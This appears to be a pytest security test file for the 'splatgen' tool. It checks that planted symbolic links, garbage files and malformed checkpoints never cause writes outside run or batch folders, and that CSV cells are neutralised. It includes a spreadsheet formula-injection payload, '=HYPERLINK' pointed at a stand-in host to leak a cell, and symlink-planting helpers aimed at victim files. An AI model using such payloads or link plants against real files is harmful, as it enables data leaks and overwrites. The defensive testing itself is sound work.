"""Shared run and batch folders: a symbolic link planted in one never makes splatgen write, truncate or read
outside it (the link is replaced or refused, its target unchanged), a malformed checkpoint is named in one line,
and CSV cells cannot run as spreadsheet formulas."""

from __future__ import annotations

import csv
import io
import json
import sys
from pathlib import Path

import pytest
import torch

import splatgen
from splatgen.errors import RunDirError, RunInterrupted

from test_runs import TINY, cli, gen, sigterm_at

VICTIM_TEXT = "precious data outside the run folder\n" * 50


def victim(tmp_path: Path, name: str = "victim.txt") -> Path:
    p = tmp_path / "elsewhere" / name
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_text(VICTIM_TEXT)
    return p


def interrupted_run(out: Path, prompt: str = "a red mug") -> Path:
    """A run stopped by SIGTERM after step 6 of 12: ``out.partial`` with interrupted.pt and metrics.jsonl."""
    with sigterm_at(5), pytest.raises(RunInterrupted):
        splatgen.generate(prompt, config="world", out_dir=out, overrides=TINY)
    staging = out.with_name(out.name + ".partial")
    assert (staging / "checkpoints" / "interrupted.pt").is_file() and (staging / "metrics.jsonl").is_file()
    return staging


def plant(link: Path, target: Path) -> None:
    if link.exists() or link.is_symlink():
        link.unlink()
    link.symlink_to(target)


def test_lock_link_is_never_written_through_by_export_evaluate_or_resume(tmp_path):
    out = tmp_path / "run"
    staging = interrupted_run(out)
    target = victim(tmp_path)
    plant(staging / ".lock", target)
    r = cli("export", str(out), str(tmp_path / "x.ply"), cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    r = cli("evaluate", str(out), cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    assert target.read_text() == VICTIM_TEXT
    # the resume takes the folder over: the link is replaced by the run's own lock, its target untouched
    res = gen(out, resume=True)
    assert target.read_text() == VICTIM_TEXT
    assert res.out_dir == out and (out / "splats.ply").is_file()


def test_a_refused_resume_leaves_the_lock_links_target_alone(tmp_path):
    out = tmp_path / "run"
    staging = interrupted_run(out)
    target = victim(tmp_path)
    plant(staging / ".lock", target)
    with pytest.raises(Exception):
        gen(out, "run.steps=13", resume=True)  # another config: refused
    assert target.read_text() == VICTIM_TEXT


def test_metrics_log_link_is_replaced_not_appended_to(tmp_path):
    out = tmp_path / "run"
    staging = interrupted_run(out)
    target = victim(tmp_path)
    plant(staging / "metrics.jsonl", target)
    gen(out, resume=True)
    assert target.read_text() == VICTIM_TEXT
    log = out / "metrics.jsonl"
    assert not log.is_symlink() and "precious" not in log.read_text() and '"step": 12' in log.read_text()


def test_owner_message_never_shows_a_linked_files_content(tmp_path):
    from splatgen.rundir import _owner

    folder = tmp_path / "f"
    folder.mkdir()
    secret = victim(tmp_path, "secret.txt")
    plant(folder / ".lock", secret)
    assert "precious" not in _owner(folder)


def test_batch_manifest_and_records_lock_links_are_replaced(tmp_path):
    import shutil

    from splatgen.batch import run_batch

    prompts = tmp_path / "p.txt"
    prompts.write_text("a red mug\n")
    out = tmp_path / "b"
    assert run_batch(prompts, out, config=["world"], overrides=TINY)["done"] == 1
    # Someone shares the batch folder with links in it, and the prompt is to be made again.
    for run in [p for p in out.iterdir() if p.is_dir()]:
        shutil.rmtree(run)
    targets = {name: victim(tmp_path, f"{name}.txt") for name in ("manifest.jsonl", ".records.lock")}
    for name, t in targets.items():
        plant(out / name, t)
    assert run_batch(prompts, out, config=["world"], overrides=TINY)["done"] == 1
    for name, t in targets.items():
        assert t.read_text() == VICTIM_TEXT, name
        assert not (out / name).is_symlink()
    assert '"status": "done"' in (out / "manifest.jsonl").read_text()


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_summary_csv_cells_cannot_run_as_formulas(tmp_path, start):
    from splatgen.batch import BatchItem, write_summary

    prompt = f'{start}HYPERLINK("http://example.invalid/?"&A1,"a red mug")'
    out = tmp_path / "b"
    out.mkdir()
    write_summary(out, [BatchItem(index=0, line=1, prompt=prompt, name="x", seed=0)], gallery=True)
    rows = list(csv.reader(io.StringIO((out / "summary.csv").read_text())))
    cell = rows[1][rows[0].index("prompt")]
    assert cell == "'" + prompt  # read back: the prompt behind an apostrophe, so a spreadsheet shows it as text
    assert "HYPERLINK" in (out / "index.html").read_text()  # the gallery escapes it (HTML) and shows it whole


def test_spreadsheet_cell_leaves_numbers_and_plain_text():
    from splatgen.fileio import spreadsheet_cell

    assert spreadsheet_cell(-0.5) == -0.5 and spreadsheet_cell(None) is None
    assert spreadsheet_cell("a red mug") == "a red mug" and spreadsheet_cell("\tx") == "'\tx"


@pytest.mark.parametrize("host", ["203.0.113.9", "no-such-host.invalid"])
def test_view_with_a_host_of_another_machine_is_one_line_at_once(tmp_path, host):
    import time

    out = tmp_path / "run"
    gen(out)
    t0 = time.monotonic()
    r = cli("view", str(out), "--host", host, "--port", "0", cwd=tmp_path, timeout=60)
    assert r.returncode == 2 and time.monotonic() - t0 < 30
    err = [l for l in r.stderr.splitlines() if l.strip()]
    assert err[-1].startswith("splatgen: error: cannot serve the viewer on") and "Traceback" not in r.stderr
    assert "127.0.0.1" in err[-1]


# ---- checkpoints that cannot be continued from ----------------------------------------------------------------
@pytest.mark.parametrize("content, reason", [
    ({"step": 5}, "it lacks kind"),
    ([1, 2, 3], "it holds a list"),
    ({"step": "five", "kind": "gaussians"}, "its step is 'five'"),
    (b"", "is not a readable checkpoint"),
    (b"PK\x03\x04 torn", "is not a readable checkpoint"),
])
def test_a_malformed_checkpoint_is_named_and_its_work_kept(tmp_path, content, reason):
    out = tmp_path / "run"
    staging = interrupted_run(out)
    ck = staging / "checkpoints" / "interrupted.pt"
    if isinstance(content, bytes):
        ck.write_bytes(content)
    else:
        torch.save(content, ck)
    for resume in (True, False):
        with pytest.raises(RunDirError) as info:
            gen(out, resume=resume)
        msg = str(info.value)
        assert "interrupted.pt" in msg and reason in msg and "--overwrite" in msg and "\n" not in msg
        assert ck.exists() and (staging / "interrupted.ply").exists(), "the interrupted work is kept"
    r = cli("generate", "a red mug", "--config", "world", "--out", str(out), "--resume", *TINY, cwd=tmp_path)
    err = [l for l in r.stderr.splitlines() if l.startswith("splatgen: error")]
    assert r.returncode == 2 and len(err) == 1 and "interrupted.pt" in err[0] and "Traceback" not in r.stderr
    res = gen(out, overwrite=True)  # asked to start over: it does
    assert (out / "splats.ply").is_file() and res.history[-1]["step"] == 12


def test_a_checkpoint_of_another_prompt_is_not_resumed(tmp_path):
    foreign = interrupted_run(tmp_path / "chair", "a blue chair") / "checkpoints" / "interrupted.pt"
    out = tmp_path / "run"
    staging = interrupted_run(out)
    (staging / "checkpoints" / "interrupted.pt").write_bytes(foreign.read_bytes())
    with pytest.raises(RunDirError, match="saved by a run of 'a blue chair', not of 'a red mug'"):
        gen(out, resume=True)


# ---- hostile run folders, drawn at random --------------------------------------------------------------------
from hypothesis import HealthCheck, example, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

#: files of an interrupted run's folder someone could have planted links in, truncated or replaced
PLANTABLE = [".lock", "metrics.jsonl", "config.yaml", "interrupted.ply", "checkpoints/interrupted.pt"]
ACTIONS = st.sampled_from(["link", "truncate", "empty", "garbage", "leave"])


@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(st.lists(st.tuples(st.sampled_from(PLANTABLE), ACTIONS), min_size=1, max_size=4, unique_by=lambda x: x[0]))
def test_a_hostile_interrupted_folder_never_makes_splatgen_write_outside_it(tmp_path_factory, plan):
    """Whatever links, truncations and garbage an interrupted run folder holds, ``export``, ``evaluate`` and
    ``generate --resume`` never change a file outside it, and fail (if they fail) with a splatgen error."""
    from splatgen.errors import SplatgenError
    from splatgen.export import load_ply
    from splatgen.rundir import find_run
    from splatgen.world.metrics import evaluate_run

    tmp = tmp_path_factory.mktemp("hostile")
    out = tmp / "run"
    staging = interrupted_run(out)
    targets = []
    for name, action in plan:
        f = staging / name
        if action == "link":
            t = victim(tmp, name.replace("/", "_") + ".victim")
            targets.append(t)
            plant(f, t)
        elif action == "truncate" and f.is_file():
            data = f.read_bytes()
            f.write_bytes(data[: len(data) // 3])
        elif action == "empty":
            f.write_bytes(b"")
        elif action == "garbage":
            f.write_bytes(b"\x00\xffnot what splatgen wrote" * 7)
    for attempt in (lambda: evaluate_run(find_run(out), device="cpu"),
                    lambda: load_ply(find_run(out).model),
                    lambda: gen(out, resume=True)):
        try:
            attempt()
        except SplatgenError:
            pass
        except (ValueError, OSError) as exc:  # pragma: no cover - what the test is here to catch
            raise AssertionError(f"{plan}: {type(exc).__name__}: {exc}") from None
        for t in targets:
            assert t.read_text() == VICTIM_TEXT, (plan, t)


def test_a_resumed_run_finishes_without_the_interrupted_leftovers(tmp_path):
    from splatgen.world.metrics import evaluate_run

    out = tmp_path / "run"
    staging = interrupted_run(out)
    with pytest.warns(UserWarning, match="not finished"):
        evaluate_run(out, device="cpu")
    assert (staging / "metrics.json").is_file() and (staging / "interrupted.ply").is_file()
    gen(out, resume=True)
    assert not (out / "interrupted.ply").exists() and not (out / "metrics.json").exists()  # run.evaluate=false


def test_the_continue_hint_of_an_interrupted_run_works_as_printed(tmp_path):
    import shlex

    from splatgen.rundir import find_run

    out = tmp_path / "my run"
    interrupted_run(out)
    note = find_run(out).note
    command = note[note.index("continue it with: ") + len("continue it with: "):].rstrip(")")
    args = shlex.split(command)
    assert args[:2] == ["splatgen", "generate"] and "--config" in args and "--resume" in args
    r = cli(*args[1:], cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    assert (out / "splats.ply").is_file()


def test_an_out_that_is_a_link_is_refused_before_training(tmp_path):
    real = tmp_path / "real"
    real.mkdir()
    link = tmp_path / "link"
    link.symlink_to(real)
    with pytest.raises(RunDirError, match="is a symbolic link"):
        gen(link)
    staging_link = tmp_path / "other.partial"
    staging_link.symlink_to(real)
    with pytest.raises(RunDirError, match="is a symbolic link"):
        gen(tmp_path / "other")
    assert not any(real.iterdir())


def test_an_export_clears_what_a_killed_export_of_the_same_file_left(tmp_path):
    import os
    import subprocess as sp

    from splatgen.fileio import TMP_SUFFIX, atomic_write

    dead = sp.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    dead_pid = int(dead.stdout)
    stale = tmp_path / f".mug.{dead_pid}{TMP_SUFFIX}.mp4"
    live = tmp_path / f".mug.{os.getppid()}{TMP_SUFFIX}.mp4"  # a live process's write in progress
    other = tmp_path / f".cup.{dead_pid}{TMP_SUFFIX}.mp4"  # another file's: not this export's business
    for p in (stale, live, other):
        p.write_bytes(b"half an mp4")
    atomic_write(tmp_path / "mug.mp4", lambda f: f.write(b"video"))
    assert (tmp_path / "mug.mp4").read_bytes() == b"video"
    assert not stale.exists() and live.exists() and other.exists()


BATCH_FILES = ["manifest.jsonl", ".records.lock", "batch.json", "summary.csv", "index.html"]


@settings(max_examples=8, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(st.lists(st.tuples(st.sampled_from(BATCH_FILES), ACTIONS), min_size=1, max_size=4, unique_by=lambda x: x[0]))
@example(plan=[("manifest.jsonl", "garbage")])  # bytes that are not UTF-8 (once a traceback from the summary)
@example(plan=[("batch.json", "garbage")])
def test_a_hostile_batch_folder_never_makes_splatgen_write_outside_it(tmp_path_factory, plan):
    """Links, truncations and garbage in a batch folder's own files: rerunning the batch never changes a file
    outside it, never loses its finished prompt, and fails (if it fails) with a splatgen error."""
    import shutil

    from splatgen.batch import run_batch
    from splatgen.errors import SplatgenError

    tmp = tmp_path_factory.mktemp("hostile-batch")
    prompts = tmp / "p.txt"
    prompts.write_text("a red mug\na blue chair\n")
    out = tmp / "b"
    run_batch(prompts, out, config=["world"], overrides=TINY)
    runs = sorted(p for p in out.iterdir() if p.is_dir())
    kept = (runs[0] / "splats.ply").read_bytes()
    shutil.rmtree(runs[1])  # one prompt to make again
    targets = []
    for name, action in plan:
        f = out / name
        if action == "link":
            t = victim(tmp, name.lstrip(".") + ".victim")
            targets.append(t)
            plant(f, t)
        elif action == "truncate" and f.is_file():
            f.write_bytes(f.read_bytes()[: f.stat().st_size // 3])
        elif action == "empty":
            f.write_bytes(b"")
        elif action == "garbage":
            f.write_bytes(b"\x00\xffnot what splatgen wrote" * 7)
    try:
        run_batch(prompts, out, config=["world"], overrides=TINY)
    except SplatgenError:
        pass
    for t in targets:
        assert t.read_text() == VICTIM_TEXT, (plan, t)
    assert (runs[0] / "splats.ply").read_bytes() == kept, "a finished prompt is never lost"


def test_a_manifest_keeps_only_its_own_records(tmp_path):
    """Lines that are not UTF-8, not JSON, or JSON that is not a record (no name) are skipped, not fatal."""
    from splatgen.batch import MANIFEST, read_manifest

    good = {"name": "000-a-red-mug", "status": "done"}
    (tmp_path / MANIFEST).write_bytes(b"\n".join([
        b"\x00\xff\xfe", b"5", b"[1, 2]", b'{"status": "done"}', b'{"name": 7}', b'{"name": "cut', json.dumps(good).encode()
    ]) + b"\n")
    assert read_manifest(tmp_path) == [good]
